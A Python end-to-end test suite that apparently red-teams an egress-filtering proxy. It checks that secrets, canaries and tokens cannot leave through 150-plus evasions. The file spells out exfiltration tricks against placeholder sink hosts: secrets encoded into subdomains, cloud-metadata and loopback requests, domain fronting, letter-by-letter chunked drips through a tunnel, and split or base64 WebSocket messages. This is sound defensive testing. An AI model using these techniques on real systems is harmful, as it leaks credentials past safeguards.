"""A red team's suite: `evasions.py` and `evasions_packed.py` as real traffic through a real sidecar, in two modes.
By default nothing is allowed; then every host is, and the content inspection stands alone."""

import asyncio
import base64
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import websockets
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sidecar.contract import Route
from tests.security.evasions import ALL as USUAL
from tests.security.evasions import BENIGN, CANARY, FORMS, PLACEHOLDER, SECRET, TOKENS, Evasion
from tests.security.evasions_packed import PACKED
from tests.sidecar.attack_kit import tunnel
from tests.sidecar.proxy_kit import Bottle, Upstream, authority, bottle, pem

ALL = (*USUAL, *PACKED)
ROOT = Path(__file__).parents[2]
HOSTS = tuple(f"h{number}.sink.example.com" for number in range(len(ALL) + 60))
"""One for each evasion: a drip that was found has its host refused for a minute."""


@pytest.fixture
async def sink() -> AsyncIterator[Upstream]:
    async with Upstream(("*.sink.example.com", "*.wild.example.com"), authority()).run() as running:
        yield running


def options(sink: Upstream) -> dict[str, Any]:
    return {
        "extra_ca": (pem(sink.ca),),
        "connect_to": {f"{host}:443": f"127.0.0.1:{sink.port}" for host in HOSTS},
        "secrets": {"DEPLOY_KEY": SECRET},
        "placeholders": {"ANTHROPIC_API_KEY": PLACEHOLDER},
        "canary": CANARY,
        "policy": {"supervise": False},
    }


async def tried(client: httpx.AsyncClient, host: str, evasion: Evasion) -> str:
    """How it was stopped: a code, `cut`, or nothing where it got through."""
    headers = [*((name, value.encode("utf-8")) for name, value in evasion.headers.items())]
    request = client.build_request(
        evasion.method, httpx.URL(f"https://{host}").copy_with(raw_path=evasion.path.encode()),
        headers=headers, content=evasion.raw,
    )  # fmt: skip
    try:
        answer = await client.send(request)
    except httpx.HTTPError:
        return "cut"
    try:
        return str(answer.json()["code"]) if answer.status_code in (400, 403) else ""
    except ValueError:
        return "cut" if answer.status_code >= 400 else ""


async def all_tried(box: Bottle, hosts: tuple[str, ...]) -> dict[str, str]:
    found: dict[str, str] = {}
    async with box.client() as one, box.client(http2=True) as two:
        for number, evasion in enumerate(ALL):
            found[evasion.name] = await tried(two if number % 2 else one, hosts[number], evasion)
    return found


def test_there_are_enough_and_each_has_a_name() -> None:
    assert len({evasion.name for evasion in ALL}) == len(ALL) >= 150
    assert f"all of {len(ALL)} ways to smuggle" in " ".join((ROOT / "README.md").read_text().split())


@pytest.mark.e2e
async def test_by_default_nothing_leaves(sink: Upstream) -> None:
    async with bottle(Route(host="allowed.example.com"), **options(sink)) as box:
        found = await all_tried(box, HOSTS)
        assert [name for name, code in found.items() if not code] == []
        assert sink.seen == []


@pytest.mark.e2e
async def test_with_every_host_allowed_what_is_secret_does_not_leave(sink: Upstream) -> None:
    routes = tuple(Route(host=host) for host in HOSTS)
    async with bottle(*routes, **options(sink)) as box:
        found = await all_tried(box, HOSTS)
        through = [name for name, code in found.items() if not code]
        assert len(through) <= len(ALL) * 0.05, through
        assert not {evasion.name for evasion in PACKED} & set(through)
        print(f"{len(ALL) - len(through)} of {len(ALL)} stopped; through: {through}")
        evidence = {event.host: event for event in box.events() if event.decision == "deny"}
        scanned = {"secret_found", "canary_leaked", "placeholder_misplaced"}
        for number, evasion in enumerate(ALL):
            event = evidence.get(HOSTS[number])
            if found[evasion.name] in scanned:
                assert event is not None, evasion.name
                assert event.detail["findings"], evasion.name
        log = b"".join(path.read_bytes() for path in (box.folder / "spool").iterdir())
        for value in (SECRET, CANARY, *TOKENS.values()):
            assert value.encode() not in log
        await _harmless(box, len(ALL))


async def _harmless(box: Bottle, first: int) -> None:
    """At most one in forty of what is ordinary is refused."""
    more = [
        ("POST", f"/src/{path.name}", {}, path.read_bytes()) for path in sorted((ROOT / "sidecar").glob("*.py"))[:20]
    ]
    refused: list[str] = []
    async with box.client() as client:
        for number, (method, path, headers, body) in enumerate([*BENIGN, *more]):
            host = HOSTS[first + number % 40]
            answer = await client.request(method, f"https://{host}{path}", headers=headers, content=body)
            if answer.status_code != 200:
                refused.append(f"{path}: {answer.text[:200]}")
    assert len(refused) * 40 <= len(BENIGN) + len(more), refused


@pytest.mark.e2e
async def test_other_ways_out(sink: Upstream) -> None:
    """Names, ports, tunnels and WebSockets, with every host allowed."""
    routes = (*(Route(host=host) for host in HOSTS[:10]), Route(host="*.wild.example.com"))
    async with bottle(*routes, **options(sink)) as box:
        tls, host = box.tls(), HOSTS[0]
        async with box.client() as client:
            for name in (f"{SECRET.encode().hex()}.wild.example.com", f"{SECRET.lower()}.wild.example.com"):
                assert (await client.get(f"https://{name}/")).status_code == 403
            for address in (
                "http://169.254.169.254/latest/",
                "https://127.0.0.1/",
                "http://[::1]/",
                "http://10.0.0.1/",
            ):
                assert (await client.get(address)).status_code in (400, 403)
            fronted = await client.get(f"https://{host}/", headers={"host": HOSTS[1]})
            assert fronted.json()["code"] == "names_disagree"
            answers = [await client.get(f"https://{HOSTS[2]}/p?c={letter}") for letter in SECRET]
            assert answers[-1].status_code == 403
        reader, writer = await tunnel(box, f"{host}:443", host)
        writer.write(f"POST /x HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n".encode())
        for letter in SECRET:  # one letter a chunk
            writer.write(f"1\r\n{letter}\r\n".encode())
        writer.write(b"0\r\n\r\n")
        assert b"secret_found" in await reader.read(65536)
        writer.close()
        await _sockets(box, tls)
        assert all(SECRET not in str(seen) for seen in sink.seen)


async def _sockets(box: Bottle, tls: Any) -> None:
    cases: list[list[Any]] = [
        [SECRET],
        [SECRET.encode()],
        [base64.b64encode(SECRET.encode())],
        [[SECRET[:10], SECRET[10:]]],
        [f"a{SECRET[:13]}", f"{SECRET[13:]}b"],
        [json.dumps({"d": SECRET[at]}) for at in range(len(SECRET))],
        [json.dumps({"d": piece}) for piece in (TOKENS["github"][:18], TOKENS["github"][18:])],
    ]
    for number, messages in enumerate(cases):
        url = f"wss://{HOSTS[3 + number]}/ws"
        async with websockets.connect(url, proxy=box.proxy, ssl=tls) as socket:
            with pytest.raises(websockets.ConnectionClosed):
                await _talk(socket, messages)


async def _talk(socket: Any, messages: list[Any]) -> None:
    for message in messages:
        await socket.send(message)
    async with asyncio.timeout(20):
        while True:
            said = str(await socket.recv())
            assert "echo " + SECRET not in said
            assert TOKENS["github"][18:] not in said


LETTERS = st.text("abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789", min_size=20, max_size=40)


@pytest.mark.e2e
async def test_any_form_in_any_place_in_any_pieces_is_found(sink: Upstream) -> None:
    """Random form, place and chunking of the secret, with random text about it."""
    cases: list[tuple[str, str, bytes, list[int]]] = []

    @settings(max_examples=60, deadline=None, database=None, suppress_health_check=list(HealthCheck))
    @given(
        st.sampled_from(sorted(FORMS)), st.sampled_from(["json", "text", "query"]), LETTERS,
        st.lists(st.integers(1, 50), max_size=6),
    )  # fmt: skip
    def collect(form: str, place: str, around: str, cuts: list[int]) -> None:
        cases.append((form, place, around.encode(), cuts))

    collect()
    routes = tuple(Route(host=host) for host in HOSTS[: len(cases)])
    async with bottle(*routes, **options(sink)) as box, box.client() as client:
        for number, (form, place, around, cuts) in enumerate(cases[: len(HOSTS)]):
            text = FORMS[form](SECRET)
            host = HOSTS[number]
            if place == "query":
                answer = await client.get(f"https://{host}/", params={"a": f"{around.decode()} {text}"})
            else:
                body = json.dumps({"a": text}).encode() if place == "json" else around + b" " + text.encode()
                answer = await client.post(f"https://{host}/", content=_pieces(body, cuts))
            assert answer.status_code == 403, (form, place, around, cuts)


async def _pieces(body: bytes, cuts: list[int]) -> AsyncIterator[bytes]:
    for size in cuts:
        if body:
            yield body[:size]
            body = body[size:]
    if body:
        yield body
